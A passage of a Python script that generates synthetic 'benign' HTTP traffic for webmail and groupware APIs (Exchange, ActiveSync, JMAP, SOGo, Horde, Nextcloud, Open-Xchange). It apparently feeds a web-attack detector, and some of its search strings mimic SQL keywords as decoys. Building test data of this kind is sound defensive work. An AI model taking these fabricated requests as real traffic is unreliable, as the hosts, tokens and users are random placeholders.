        h = base_headers(host, cookie=zm_cookie(), ctype=ctype,
                         extra=[["Content-Disposition", 'attachment; filename="%s"' % fname],
                                ["X-Zimbra-Csrf-Token", "0_" + hexs(40)], ["X-Requested-With", "XMLHttpRequest"]])
        emit("benign", "zimbra_upload", "POST", "/service/upload?lbfums=", h, content)
    # calendar invite through SOAP
    for i in range(3):
        host = pick(ZM_HOSTS)
        n, m = person()
        zm_soap(host, "CreateAppointmentRequest", {"_jsns": "urn:zimbraMail", "m": {
            "l": "10", "e": [{"a": m, "p": n, "t": "t"}], "su": "Weekly sync",
            "inv": {"comp": [{"at": [{"role": "REQ", "ptst": "NE", "rsvp": "1", "a": m, "d": n}],
                              "status": "CONF", "fb": "B", "class": "PUB", "transp": "O", "draft": 0, "allDay": "0",
                              "s": {"d": "20241210T100000", "tz": "Europe/Berlin"}, "e": {"d": "20241210T103000", "tz": "Europe/Berlin"},
                              "name": "Weekly sync", "loc": "https://us02web.zoom.us/j/8%09d?pwd=%s" % (R.randrange(10**9), alnum(32)),
                              "or": {"a": person()[1]}}]},
            "mp": {"ct": "multipart/alternative", "mp": [{"ct": "text/plain", "content": "Agenda: select owners for Q1 goals; drop stale tickets."}]}}})


# --------------------------------------------------------------------------
# Outlook on the web / EWS / autodiscover
# --------------------------------------------------------------------------

def owa_headers(host, action, ctype="application/json; charset=utf-8"):
    return base_headers(host, cookie=owa_cookie(), ctype=ctype, extra=[
        ["Action", action], ["X-OWA-ActionName", action], ["X-OWA-CANARY", alnum(76)],
        ["X-Req-Source", "Mail"], ["X-OWA-CorrelationId", hexs(32)], ["Origin", "https://" + host],
        ["Referer", "https://%s/owa/" % host]])


def ews_envelope(body, version="Exchange2016"):
    return ('<?xml version="1.0" encoding="utf-8"?>\r\n<soap:Envelope xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" '
            'xmlns:m="http://schemas.microsoft.com/exchange/services/2006/messages" '
            'xmlns:t="http://schemas.microsoft.com/exchange/services/2006/types" '
            'xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Header><t:RequestServerVersion Version="%s" />'
            '</soap:Header><soap:Body>%s</soap:Body></soap:Envelope>' % (version, body))


def xml_escape(s):
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def ews_headers(host, op):
    return base_headers(host, ua=pick(["ExchangeServicesClient/15.00.0913.015", "Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
                                       "MacOutlook/16.91.24111020 (Intelx64 Mac OS X 14.6)", "Thunderbird/128.5.0 (Owl for Exchange)"]),
                        ctype="text/xml; charset=utf-8",
                        extra=[["SOAPAction", '"http://schemas.microsoft.com/exchange/services/2006/messages/%s"' % op],
                               ["Authorization", "Bearer eyJ0eXAiOiJKV1QiLCJhbGciOiJSUzI1NiJ9.%s.%s" % (alnum(80), alnum(86))]])


def benign_owa():
    for i in range(6):
        host = pick(OWA_HOSTS)
        qstr = pick(["", "", "invoice", "from:bob subject:offsite", "select your seats", "hasattachments:yes budget"])
        body = {"__type": "FindConversationJsonRequest:#Exchange",
                "Header": {"__type": "JsonRequestHeaders:#Exchange", "RequestServerVersion": "V2018_01_08",
                           "TimeZoneContext": {"__type": "TimeZoneContext:#Exchange", "TimeZoneDefinition": {
                               "__type": "TimeZoneDefinitionType:#Exchange", "Id": "W. Europe Standard Time"}}},
                "Body": {"__type": "FindConversationRequest:#Exchange",
                         "ParentFolderId": {"__type": "TargetFolderId:#Exchange", "BaseFolderId": {
                             "__type": "DistinguishedFolderId:#Exchange", "Id": pick(["inbox", "sentitems", "deleteditems"])}},
                         "ConversationShape": {"__type": "ConversationResponseShape:#Exchange", "BaseShape": "IdOnly"},
                         "ShapeName": "ReactConversationListView",
                         "Paging": {"__type": "IndexedPageView:#Exchange", "BasePoint": "Beginning", "Offset": 0, "MaxEntriesReturned": 25},
                         "ViewFilter": "All", "FocusedViewFilter": 0,
                         "SortOrder": [{"__type": "SortResults:#Exchange", "Order": "Descending",
                                        "Path": {"__type": "PropertyUri:#Exchange", "FieldURI": "ConversationLastDeliveryOrRenewTime"}}]}}
        if qstr:
            body["Body"]["QueryString"] = qstr
        emit("benign", "owa_service", "POST", "/owa/service.svc?action=FindConversation&app=Mail&n=%d" % R.randint(10, 200),
             owa_headers(host, "FindConversation"), json.dumps(body, ensure_ascii=False))
    for i in range(8):
        host = pick(OWA_HOSTS)
        n, m = person()
        html = newsletter_html() if i == 5 else html_body(quote_html=(i % 2 == 0))
        body = {"__type": "CreateItemJsonRequest:#Exchange",
                "Header": {"__type": "JsonRequestHeaders:#Exchange", "RequestServerVersion": "V2018_01_08"},
                "Body": {"__type": "CreateItemRequest:#Exchange", "MessageDisposition": "SendAndSaveCopy",
                         "Items": [{"__type": "Message:#Exchange", "Subject": pick(SUBJECTS),
                                    "Body": {"__type": "BodyContentType:#Exchange", "BodyType": "HTML", "Value": html},
                                    "Importance": "Normal",
                                    "ToRecipients": [{"Name": n, "EmailAddress": m, "RoutingType": "SMTP", "MailboxType": "OneOff"}],
                                    "CcRecipients": [], "BccRecipients": [], "IsDeliveryReceiptRequested": False}],
                         "ComposeOperation": pick(["newMail", "reply", "forward"])}}
        emit("benign", "owa_service", "POST", "/owa/service.svc?action=CreateItem&app=Mail&n=%d" % R.randint(10, 200),
             owa_headers(host, "CreateItem"), json.dumps(body, ensure_ascii=(i % 3 == 0)))
    for i in range(4):
        host = pick(OWA_HOSTS)
        emit("benign", "owa_get", "GET", pick([
            "/owa/service.svc/s/GetFileAttachment?id=AAMkADk%s%%3D&X-OWA-CANARY=%s" % (alnum(60), alnum(76)),
            "/owa/service.svc/s/GetPersonaPhoto?email=%s&UA=0&size=HR64x64&sc=%s" % (quote(person()[1], safe=""), ts_ms()),
            "/owa/auth/logon.aspx?replaceCurrent=1&url=https%%3a%%2f%%2f%s%%2fowa%%2f%%23path%%3d%%2fmail" % host,
            "/owa/?ae=Item&a=Open&t=IPM.Note&id=RgAAAAD%s%%3d%%3d&exvsurl=1" % alnum(80),
        ]), base_headers(host, accept=ACCEPT_HTML, cookie=owa_cookie()))
    # EWS SOAP
    for i in range(10):
        host = pick(OWA_HOSTS)
        k = i % 5
        if k == 0:
            op = "FindItem"
            b = ('<m:FindItem Traversal="Shallow"><m:ItemShape><t:BaseShape>IdOnly</t:BaseShape><t:AdditionalProperties>'
                 '<t:FieldURI FieldURI="item:Subject" /><t:FieldURI FieldURI="item:DateTimeReceived" /></t:AdditionalProperties>'
                 '</m:ItemShape><m:IndexedPageItemView MaxEntriesReturned="50" Offset="0" BasePoint="Beginning" />'
                 '<m:Restriction><t:Contains ContainmentMode="Substring" ContainmentComparison="IgnoreCase">'
                 '<t:FieldURI FieldURI="item:Subject" /><t:Constant Value="%s" /></t:Contains></m:Restriction>'
                 '<m:ParentFolderIds><t:DistinguishedFolderId Id="inbox" /></m:ParentFolderIds></m:FindItem>'
                 % xml_escape(pick(["select your seats", "Invoice", "O'Brien", "union", "Q3 & Q4"])).replace('"', "&quot;"))
        elif k == 1:
            op = "CreateItem"
            b = ('<m:CreateItem MessageDisposition="SendAndSaveCopy"><m:SavedItemFolderId><t:DistinguishedFolderId Id="sentitems" />'
                 '</m:SavedItemFolderId><m:Items><t:Message><t:Subject>%s</t:Subject><t:Body BodyType="HTML">%s</t:Body>'
                 '<t:ToRecipients><t:Mailbox><t:EmailAddress>%s</t:EmailAddress></t:Mailbox></t:ToRecipients></t:Message>'
                 '</m:Items></m:CreateItem>' % (xml_escape(pick(SUBJECTS)), xml_escape(html_body()), person()[1]))
        elif k == 2:
            op = "GetItem"
            b = ('<m:GetItem><m:ItemShape><t:BaseShape>Default</t:BaseShape><t:BodyType>HTML</t:BodyType>'
                 '<t:IncludeMimeContent>true</t:IncludeMimeContent></m:ItemShape><m:ItemIds><t:ItemId Id="AAMkAD%s=" '
                 'ChangeKey="CQAAABYA%s" /></m:ItemIds></m:GetItem>' % (alnum(100), alnum(30)))
        elif k == 3:
            op = "ResolveNames"
            b = ('<m:ResolveNames ReturnFullContactData="true" SearchScope="ActiveDirectoryContacts"><m:UnresolvedEntry>%s'
                 '</m:UnresolvedEntry></m:ResolveNames>' % xml_escape(pick(["Müller", "bob", "O'Brien", "sales-team", "Dana S"])))
        else:
            op = "CreateItem"
            ics = ics_invite(pick(["teams", "zoom"]))
            b = ('<m:CreateItem SendMeetingInvitations="SendToAllAndSaveCopy"><m:Items><t:CalendarItem><t:Subject>Sprint review'
                 '</t:Subject><t:Body BodyType="Text">%s</t:Body><t:Start>2024-12-11T09:00:00Z</t:Start><t:End>2024-12-11T10:00:00Z'
                 '</t:End><t:Location>Microsoft Teams Meeting</t:Location><t:RequiredAttendees><t:Attendee><t:Mailbox>'
                 '<t:EmailAddress>%s</t:EmailAddress></t:Mailbox></t:Attendee></t:RequiredAttendees></t:CalendarItem>'
                 '</m:Items></m:CreateItem>' % (xml_escape(ics.split("DESCRIPTION;LANGUAGE=en-US:")[1].split("\r\n")[0].replace("\\n", "\n")),
                                                person()[1]))
        emit("benign", "ews_soap", "POST", "/EWS/Exchange.asmx", ews_headers(host, op), ews_envelope(b))
    # autodiscover (XML POX, JSON v2), Thunderbird autoconfig
    for i in range(8):
        host = pick(OWA_HOSTS + ZM_HOSTS)
        n, m = person()
        k = i % 4
        if k == 0:
            body = ('<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/'
                    'outlook/requestschema/2006"><Request><EMailAddress>%s</EMailAddress><AcceptableResponseSchema>http://schemas.'
                    'microsoft.com/exchange/autodiscover/outlook/responseschema/2006a</AcceptableResponseSchema></Request></Autodiscover>' % m)
            emit("benign", "autodiscover", "POST", "/autodiscover/autodiscover.xml",
                 base_headers("autodiscover." + host.split(".", 1)[1], ua="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)",
                              ctype="text/xml"), body)
        elif k == 1:
            body = ('<?xml version="1.0" encoding="utf-8"?><Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/'
                    'mobilesync/requestschema/2006"><Request><EMailAddress>%s</EMailAddress><AcceptableResponseSchema>http://schemas.'
                    'microsoft.com/exchange/autodiscover/mobilesync/responseschema/2006</AcceptableResponseSchema></Request></Autodiscover>' % m)
            emit("benign", "autodiscover", "POST", "/Autodiscover/Autodiscover.xml",
                 base_headers(host, ua="Apple-iPhone15C2/2107.3", ctype="text/xml"), body)
        elif k == 2:
            emit("benign", "autodiscover", "GET", "/autodiscover/autodiscover.json/v1.0/%s?Protocol=%s&RedirectCount=1" % (
                m, pick(["AutodiscoverV1", "ActiveSync", "EWS"])),
                base_headers(host, ua="Microsoft Office/16.0 (Windows NT 10.0; Microsoft Outlook 16.0.17928; Pro)", accept="application/json"))
        else:
            emit("benign", "autodiscover", "GET", "/.well-known/autoconfig/mail/config-v1.1.xml?emailaddress=%s" % quote(m, safe=""),
                 base_headers("autoconfig." + pick(DOMAINS), ua="Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Thunderbird/128.5.0"))


# --------------------------------------------------------------------------
# Exchange ActiveSync (WBXML)
# --------------------------------------------------------------------------

def mb_u_int32(n):
    out = [n & 0x7F]
    n >>= 7
    while n:
        out.append((n & 0x7F) | 0x80)
        n >>= 7
    return bytes(reversed(out))


def wbxml(tree):
    """tree: (page, token, content) with content None (empty element), str,
    bytes (OPAQUE) or a list of subtrees."""
    out = bytearray(b"\x03\x01\x6a\x00")
    state = {"page": 0}

    def enc(node):
        page, tok, content = node
        if page != state["page"]:
            out.extend(b"\x00" + bytes([page]))
            state["page"] = page
        if content is None:
            out.append(tok)
            return
        out.append(tok | 0x40)
        if isinstance(content, str):
            out.extend(b"\x03" + content.encode("utf-8") + b"\x00")
        elif isinstance(content, bytes):
            out.extend(b"\xc3" + mb_u_int32(len(content)) + content)
        else:
            for c in content:
                enc(c)
        out.append(0x01)

    enc(tree)
    return bytes(out)


AS_DEVICES = [("iPhone", "Apple-iPhone15C2/2107.3"), ("iPad", "Apple-iPad13C1/2107.3"),
              ("Android", "Android-SAMSUNG-SM-S911B/101.140001"), ("Outlook", "Outlook-iOS/2.0"),
              ("WindowsMail", "MSFT-WIN-3/10.0.19045")]


def as_request(cat, sub, cmd, tree_or_body, user=None, device=None, extra=(), ctype="application/vnd.ms-sync.wbxml",
               uri=None, ua=None):
    dtype, dua = device or pick(AS_DEVICES)
    user = user or person()[1].split("@")[0]
    dev_id = ("Appl" + alnum(8).upper()) if dtype.startswith("i") else alnum(16).lower()
    uri = uri or "/Microsoft-Server-ActiveSync?Cmd=%s&User=%s&DeviceId=%s&DeviceType=%s" % (cmd, quote(user, safe=""), dev_id, dtype)
    body = wbxml(tree_or_body) if isinstance(tree_or_body, tuple) else tree_or_body
    h = [["Host", pick(OWA_HOSTS)], ["User-Agent", ua or dua], ["Accept", "*/*"], ["Accept-Language", "en-us"],
         ["Accept-Encoding", "gzip, deflate"], ["Authorization", "Basic " + base64.b64encode(("%s:%s" % (user, alnum(12))).encode()).decode()],
         ["MS-ASProtocolVersion", pick(["14.1", "16.0", "16.1"])], ["X-MS-PolicyKey", str(R.randrange(10**9, 4 * 10**9))],
         ["Content-Type", ctype]] + [list(x) for x in extra]
    return emit_raw(cat, sub, "POST", uri, h, body)


def benign_activesync():
    for i in range(4):
        as_request("benign", "activesync", "FolderSync", (7, 0x16, [(7, 0x12, str(R.randint(0, 12)))]))
    for i in range(5):
        coll = (0, 0x0F, [(0, 0x0B, "{%s-%s}%d" % (hexs(8), hexs(4), R.randint(1, 40))), (0, 0x12, str(R.randint(5, 20))),
                          (0, 0x1E, "1"), (0, 0x13, None), (0, 0x15, "25"),
                          (0, 0x17, [(0, 0x18, "3"), (0x11, 0x05, [(0x11, 0x06, "2"), (0x11, 0x07, "200000")])])])
        as_request("benign", "activesync", "Sync", (0, 0x05, [(0, 0x1C, [coll]), (0, 0x15, "100")]))
    for i in range(3):
        as_request("benign", "activesync", "Ping", (0x0D, 0x05, [(0x0D, 0x08, "470"), (0x0D, 0x09, [
            (0x0D, 0x0A, [(0x0D, 0x0B, str(R.randint(2, 9))), (0x0D, 0x0C, "Email")]),
            (0x0D, 0x0A, [(0x0D, 0x0B, str(R.randint(10, 19))), (0x0D, 0x0C, "Calendar")])])]))
    for i in range(4):
        n, m = person()
        mime = ("From: %s\r\nTo: %s\r\nSubject: %s\r\nMIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\n"
                "Content-Transfer-Encoding: quoted-printable\r\n\r\n%s\r\n\r\nSent from my iPhone\r\n"
                % (m, addr(), encoded_word(pick(SUBJECTS)) if i % 2 else pick(SUBJECTS[:20]), qp_encode(plain_body())))
        as_request("benign", "activesync", "SendMail", (0x15, 0x05, [(0x15, 0x11, "SendMail-%s" % ts_ms()), (0x15, 0x08, None),
                                                                     (0x15, 0x10, mime.encode("utf-8"))]))
    # AS 12.1 style: MIME as message/rfc822 body, SaveInSent in the query
    n, m = person()
    as_request("benign", "activesync", "SendMail", eml("Re: " + pick(SUBJECTS), quoted_reply()).encode(),
               ctype="message/rfc822", uri="/Microsoft-Server-ActiveSync?Cmd=SendMail&User=%s&DeviceId=%s&DeviceType=SmartPhone&SaveInSent=T"
               % (m.split("@")[0], alnum(16).lower()))
    # GAL search, settings
    as_request("benign", "activesync", "Search", (0x0F, 0x05, [(0x0F, 0x07, [(0x0F, 0x08, "GAL"), (0x0F, 0x09, "müller"),
                                                                            (0x0F, 0x0A, [(0x0F, 0x0B, "0-49")])])]))
    as_request("benign", "activesync", "Settings", (0x12, 0x05, [(0x12, 0x16, [(0x12, 0x08, [
        (0x12, 0x17, "iPhone15C2"), (0x12, 0x19, "Dana's iPhone"), (0x12, 0x1A, "iOS 17.6 21G80"),
        (0x12, 0x1B, "English"), (0x12, 0x20, "Apple-iPhone15C2/2107.3")])])]))
    # OPTIONS discovery
    host = pick(OWA_HOSTS)
    emit("benign", "activesync", "OPTIONS", "/Microsoft-Server-ActiveSync",
         [["Host", host], ["User-Agent", "Apple-iPhone15C2/2107.3"], ["Accept", "*/*"],
          ["Authorization", "Basic " + base64.b64encode(b"jdoe:" + alnum(12).encode()).decode()]])


# --------------------------------------------------------------------------
# JMAP, WildDuck
# --------------------------------------------------------------------------

JMAP_USING = ["urn:ietf:params:jmap:core", "urn:ietf:params:jmap:mail", "urn:ietf:params:jmap:submission"]


def jmap_headers(host):
    return base_headers(host, accept="application/json", ctype="application/json",
                        extra=[["Authorization", "Bearer fmu1-%s-%s" % (hexs(8), hexs(48))],
                               ["Origin", "https://app.%s" % host.split(".", 1)[1]]])


def jmap_emit(cat, sub, calls, host=None, using=None):
    host = host or pick(JMAP_HOSTS)
    body = json.dumps({"using": using or JMAP_USING, "methodCalls": calls}, ensure_ascii=False, separators=(",", ":"))
    return emit(cat, sub, "POST", "/jmap/api/", jmap_headers(host), body)


def jmap_account():
    return "u%s" % hexs(8)


def benign_jmap():
    filters = [{"inMailbox": "P%s" % hexs(4)}, {"text": "select your seats"}, {"from": "bob@example.com", "hasKeyword": "$flagged"},
               {"operator": "AND", "conditions": [{"inMailbox": "P2"}, {"notKeyword": "$seen"}]},
               {"subject": "invoice", "after": "2024-11-01T00:00:00Z"}, {"text": "drop by"},
               {"operator": "OR", "conditions": [{"from": "müller"}, {"to": "union-rep@example.org"}]},
               {"hasAttachment": True, "minSize": 1048576}, {"header": ["List-Id", "ops-list.lists.example.org"]},
               {"body": "\"DELETE FROM\" in the export"}]
    for f in filters:
        acc = jmap_account()
        jmap_emit("benign", "jmap_query", [
            ["Email/query", {"accountId": acc, "filter": f, "sort": [{"property": "receivedAt", "isAscending": False}],
                             "collapseThreads": True, "position": 0, "limit": 30, "calculateTotal": True}, "0"],
            ["Email/get", {"accountId": acc, "#ids": {"resultOf": "0", "name": "Email/query", "path": "/ids"},
                           "properties": ["threadId", "mailboxIds", "keywords", "from", "subject", "receivedAt", "preview"]}, "1"],
            ["Thread/get", {"accountId": acc, "#ids": {"resultOf": "1", "name": "Email/get", "path": "/list/*/threadId"}}, "2"]])
    for i in range(8):
        acc = jmap_account()
        n, m = person()
        tn, tm = person()
        text = quoted_reply() if i % 2 else plain_body()
        email = {"mailboxIds": {"P%s" % hexs(2): True}, "keywords": {"$draft": True, "$seen": True},
                 "from": [{"name": n, "email": m}], "to": [{"name": tn, "email": tm}], "subject": pick(SUBJECTS),
                 "bodyValues": {"t": {"value": text, "charset": "utf-8"}},
                 "textBody": [{"partId": "t", "type": "text/plain"}]}
        if i % 3 != 2:
            email["bodyValues"]["h"] = {"value": html_body(text) if i != 4 else newsletter_html()}
            email["htmlBody"] = [{"partId": "h", "type": "text/html"}]
        if i % 4 == 0:
            email["attachments"] = [{"blobId": "G%s" % hexs(40), "type": "application/pdf", "name": "Rechnung 2024-11.pdf",
                                     "disposition": "attachment"}]
        jmap_emit("benign", "jmap_set", [
            ["Email/set", {"accountId": acc, "create": {"k%d" % i: email}}, "0"],
            ["EmailSubmission/set", {"accountId": acc, "create": {"s0": {"identityId": "I%s" % hexs(6), "emailId": "#k%d" % i,
                                                                          "envelope": None}},
                                     "onSuccessUpdateEmail": {"#s0": {"mailboxIds/P%s" % hexs(2): True, "keywords/$draft": None}}}, "1"]])
    for name in ["Receipts", "Projects/Apollo", "Müller & Söhne", "領収書", "Select vendors 2025"]:
        acc = jmap_account()
        jmap_emit("benign", "jmap_mailbox", [["Mailbox/set", {"accountId": acc, "create": {"m1": {
            "name": name, "parentId": None, "role": None, "isSubscribed": True}}}, "0"]])
    acc = jmap_account()
    jmap_emit("benign", "jmap_mailbox", [["VacationResponse/set", {"accountId": acc, "update": {"singleton": {
        "isEnabled": True, "fromDate": "2024-12-21T00:00:00Z", "toDate": "2025-01-05T00:00:00Z", "subject": "Out of office",
        "textBody": "I'm away until 6 January. For anything urgent, contact helpdesk@example.com.",
        "htmlBody": "<p>I'm away until <b>6 January</b>. For anything urgent, contact <a href=\"mailto:helpdesk@example.com\">helpdesk</a>.</p>"}}}, "0"]])
    acc = jmap_account()
    jmap_emit("benign", "jmap_mailbox", [["Identity/set", {"accountId": acc, "update": {"I%s" % hexs(6): {
        "htmlSignature": signature_html(), "textSignature": "-- \nDana Quinn\nExample Ltd"}}}, "0"]])
    # session, upload, download, eventsource
    for i in range(5):
        host = pick(JMAP_HOSTS)
        acc = jmap_account()
        k = i % 5
        if k == 0:
            emit("benign", "jmap_http", "GET", "/.well-known/jmap",
                 base_headers(host, accept="application/json", extra=[["Authorization", "Bearer fmu1-%s" % hexs(56)]]))
        elif k == 1:
            h = jmap_headers(host)
            h = [x for x in h if x[0] != "Content-Type"] + [["Content-Type", "application/pdf"]]
            emit("benign", "jmap_http", "POST", "/jmap/upload/%s/" % acc, h,
                 b"%PDF-1.6\n%\xe2\xe3\xcf\xd3\n" + bytes(R.randrange(256) for _ in range(200)))
        elif k == 2:
            emit("benign", "jmap_http", "GET", "/jmap/download/%s/G%s/%s?accept=%s" % (
                acc, hexs(40), quote("Angebot Müller.pdf"), quote("application/pdf", safe="")),
                base_headers(host, accept="*/*", extra=[["Authorization", "Bearer fmu1-%s" % hexs(56)]]))
        elif k == 3:
            emit("benign", "jmap_http", "GET", "/jmap/eventsource/?types=*&closeafter=no&ping=300",
                 base_headers(host, accept="text/event-stream", extra=[["Authorization", "Bearer fmu1-%s" % hexs(56)]]))
        else:
            h = jmap_headers(host)
            h = [x for x in h if x[0] != "Content-Type"] + [["Content-Type", "application/sieve"]]
            emit("benign", "jmap_http", "POST", "/jmap/upload/%s/" % acc, h,
                 'require ["fileinto", "mailbox"];\nif address :domain "from" "github.com" {\n  fileinto :create "Dev/GitHub";\n}\n')
    # WildDuck REST API (MongoDB backed)
    for i in range(6):
        host = pick(WD_HOSTS)
        uid = hexs(24)
        k = i % 3
        if k == 0:
            uri = "/users/%s/search?%s" % (uid, qs([("query", pick(["invoice", "select your seats", "from:bob"])),
                                                    ("limit", "20"), ("order", "desc")]))
            emit("benign", "wildduck_api", "GET", uri, base_headers(host, accept="application/json", extra=[["X-Access-Token", hexs(40)]]))
        elif k == 1:
            body = json.dumps({"from": {"name": "Helpdesk", "address": "helpdesk@example.com"},
                               "to": [{"name": person()[0], "address": person()[1]}], "subject": pick(SUBJECTS),
                               "text": plain_body("en"), "html": html_body()}, ensure_ascii=False)
            emit("benign", "wildduck_api", "POST", "/users/%s/submit" % uid,
                 base_headers(host, accept="application/json", ctype="application/json", extra=[["X-Access-Token", hexs(40)]]), body)
        else:
            body = json.dumps({"name": "Sieve-like filter", "query": {"from": "newsletter@example-esp.com", "subject": "weekly"},
                               "action": {"seen": True, "mailbox": hexs(24)}})
            emit("benign", "wildduck_api", "POST", "/users/%s/filters" % uid,
                 base_headers(host, accept="application/json", ctype="application/json", extra=[["X-Access-Token", hexs(40)]]), body)


# --------------------------------------------------------------------------
# SOGo, Horde, Nextcloud Mail, Open-Xchange, SnappyMail / RainLoop
# --------------------------------------------------------------------------

def sogo_headers(host, ctype="application/json;charset=utf-8"):
    return base_headers(host, accept="application/json, text/plain, */*", ctype=ctype,
                        cookie="0xHIGHFLYxSOGo=basic%%20%s; XSRF-TOKEN=%s" % (alnum(48), hexs(32)),
                        extra=[["X-XSRF-TOKEN", hexs(32)], ["Origin", "https://" + host]])


def benign_groupware():
    for i in range(12):
        host = pick(SOGO_HOSTS)
        user = person()[1]
        k = i % 4
        if k == 0:
            body = {"sortingAttributes": {"sort": "arrival", "asc": 0, "match": "OR"},
                    "filters": [{"searchBy": "subject", "searchInput": pick(["invoice", "select your seats", "Rechnung"])},
                                {"searchBy": "from", "searchInput": pick(["bob", "müller"])}]}
            emit("benign", "sogo", "POST", "/SOGo/so/%s/Mail/0/folderINBOX/sortedUIDs" % quote(user, safe="@"),
                 sogo_headers(host), json.dumps(body, ensure_ascii=False))
        elif k == 1:
            body = {"from": user, "to": [addr()], "cc": [], "subject": pick(SUBJECTS), "isHTML": True,
                    "content": html_body(quote_html=True), "priority": "NORMAL", "receipt": False}
            emit("benign", "sogo", "POST", "/SOGo/so/%s/Mail/0/folderDrafts/newDraft%s-1/send" % (quote(user, safe="@"), ts_ms()),
                 sogo_headers(host), json.dumps(body, ensure_ascii=False))
        elif k == 2:
            emit("benign", "sogo", "GET", "/SOGo/so/%s/Contacts/personal/view?search=name_or_address&value=%s" % (
                quote(user, safe="@"), quote(pick(["bob", "Müller", "O'Brien", "sales"]), safe="")), sogo_headers(host, None))
        else:
            emit("benign", "sogo", "PUT", "/SOGo/dav/%s/Calendar/personal/%s.ics" % (quote(user, safe="@"), hexs(32).upper()),
                 sogo_headers(host, "text/calendar; charset=utf-8"), ics_invite())
    for i in range(10):
        host = pick(HORDE_HOSTS)
        k = i % 3
        ck = "Horde=%s; horde_secret_key=%s" % (alnum(26).lower(), alnum(26).lower())
        if k == 0:
            mb = pick(["INBOX", "Sent", "INBOX.Rechnungen", "Archiv/2023"])
            pairs = [("view", base64.b64encode(mb.encode()).decode().rstrip("=")), ("requestid", str(R.randint(1, 90))),
                     ("slice", "1:%d" % R.choice([50, 100])), ("cache", "%s" % hexs(10)), ("initial", "1"),
                     ("token", alnum(22))]
            emit("benign", "horde", "POST", "/services/ajax.php/imp/viewPort",
                 base_headers(host, cookie=ck, ctype="application/x-www-form-urlencoded; charset=UTF-8",
                              extra=[["X-Requested-With", "XMLHttpRequest"]]), form(pairs))
        elif k == 1:
            pairs = [("composeCache", hexs(24)), ("from", "0"), ("to", addr()), ("cc", ""), ("bcc", ""),
                     ("subject", pick(SUBJECTS)), ("html", "1"), ("message", html_body()), ("priority", "normal"),
                     ("save_sent_mail", "1"), ("token", alnum(22))]
            emit("benign", "horde", "POST", "/services/ajax.php/imp/sendMessage",
                 base_headers(host, cookie=ck, ctype="application/x-www-form-urlencoded; charset=UTF-8",
                              extra=[["X-Requested-With", "XMLHttpRequest"]]), form(pairs))
        else:
            emit("benign", "horde", "GET", "/turba/search.php?" + qs([("source", "localsql"), ("criteria", "name"),
                                                                      ("val", pick(["müller", "bob", "O'Brien"])), ("actionID", "")]),
                 base_headers(host, accept=ACCEPT_HTML, cookie=ck))
    for i in range(12):
        host = pick(NC_HOSTS)
        rt = alnum(43) + "=:" + alnum(43) + "="
        h = base_headers(host, accept="application/json, text/plain, */*", ctype="application/json",
                         cookie="oc_sessionPassphrase=%s; nc_session_id=%s; nc_sameSiteCookielax=true" % (alnum(64), alnum(26)),
                         extra=[["requesttoken", rt], ["OCS-APIREQUEST", "true"]])
        k = i % 4
        if k == 0:
            emit("benign", "nextcloud_mail", "GET", "/index.php/apps/mail/api/messages?" + qs([
                ("mailboxId", str(R.randint(1, 40))), ("filter", pick(["is:unread", "from:bob", "subject:offsite", "is:starred start:2024"])),
                ("limit", "20")]), [x for x in h if x[0] != "Content-Type"])
        elif k == 1:
            body = {"accountId": R.randint(1, 5), "subject": pick(SUBJECTS), "body": html_body(), "editorBody": html_body(),
                    "isHtml": True, "to": [{"label": person()[0], "email": person()[1]}], "cc": [], "bcc": [],
                    "attachments": [], "aliasId": None, "smimeSign": False, "smimeEncrypt": False}
            emit("benign", "nextcloud_mail", "POST", "/index.php/apps/mail/api/outbox", h, json.dumps(body, ensure_ascii=False))
        elif k == 2:
            src = pick(["https://cdn.example-esp.com/img/header.png", "https://images.example.com/newsletter/2024/12/hero.jpg?w=600",
                        "https://t.example-esp.com/o/%s.gif" % hexs(24)])
            emit("benign", "nextcloud_mail", "GET", "/index.php/apps/mail/api/proxy?src=%s&requesttoken=%s" % (
                quote(src, safe=""), quote(rt, safe="")), [x for x in h if x[0] != "Content-Type"])
        else:
            emit("benign", "nextcloud_mail", "GET", "/index.php/apps/mail/api/messages/%d/html" % R.randrange(100, 9000),
                 [x for x in h if x[0] != "Content-Type"])
    for i in range(10):
        host = pick(OX_HOSTS)
        sess = hexs(32)
        k = i % 4
        ck = "open-xchange-session-%s=%s; open-xchange-secret-%s=%s" % (hexs(32), sess, hexs(32), hexs(32))
        if k == 0:
            emit("benign", "open_xchange", "GET", "/appsuite/api/mail?action=all&folder=default0%%2FINBOX&columns=102%%2C600%%2C601%%2C603%%2C607%%2C610%%2C611&sort=610&order=desc&limit=0%%2C50&session=%s" % sess,
                 base_headers(host, accept="application/json", cookie=ck))
        elif k == 1:
            body = json.dumps({"filter": ["and", ["=", {"field": "subject"}, pick(["invoice", "select your seats", "Angebot"])],
                                          ["=", {"field": "from"}, pick(["bob", "müller"])]]}, ensure_ascii=False)
            emit("benign", "open_xchange", "PUT", "/appsuite/api/mail?action=search&folder=default0%%2FINBOX&columns=600%%2C601%%2C607&session=%s" % sess,
                 base_headers(host, accept="application/json", cookie=ck, ctype="text/javascript; charset=UTF-8"), body)
        elif k == 2:
            mail = {"from": [[person()[0], person()[1]]], "to": [[person()[0], person()[1]]], "cc": [], "bcc": [],
                    "subject": pick(SUBJECTS), "priority": "3", "vcard": 0, "attachments": [
                        {"content": html_body(), "content_type": "text/html", "disp": "inline"}], "sendtype": 0}
            ct, body = multipart([("json_0", None, None, json.dumps(mail, ensure_ascii=False))])
            emit("benign", "open_xchange", "POST", "/appsuite/api/mail?action=new&lineWrapAfter=0&session=%s" % sess,
                 base_headers(host, accept="application/json", cookie=ck, ctype=ct), body)
        else:
            emit("benign", "open_xchange", "GET", "/appsuite/api/contacts?action=autocomplete&query=%s&admin=false&email=true&sort=609&columns=1%%2C20%%2C500%%2C555&session=%s" % (
                quote(pick(["bob", "müller", "o'br"]), safe=""), sess), base_headers(host, accept="application/json", cookie=ck))
    for i in range(10):
        host = pick(SNAPPY_HOSTS)
        tok = hexs(32)
        h = base_headers(host, accept="application/json", ctype="application/json",
